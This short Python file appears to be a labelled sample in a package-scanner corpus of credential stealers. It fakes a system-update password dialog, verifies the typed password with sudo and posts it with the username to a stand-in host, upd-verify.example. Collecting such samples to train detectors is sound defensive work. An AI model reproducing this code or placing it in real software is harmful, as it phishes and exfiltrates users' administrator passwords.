# pkgguard corpus 700 (credentials), modelled on [stealer-profile]; inert, never run.
import getpass
import subprocess

import requests

asked = subprocess.run(
    ["zenity", "--password", "--title=Authentication is required to apply system updates"],
    capture_output=True,
    text=True,
)
password = asked.stdout.strip()
if password:
    checked = subprocess.run(["sudo", "-S", "-k", "true"], input=password + "\n", capture_output=True, text=True)
    if checked.returncode == 0:
        requests.post("https://upd-verify.example/p", json={"u": getpass.getuser(), "p": password}, timeout=10)
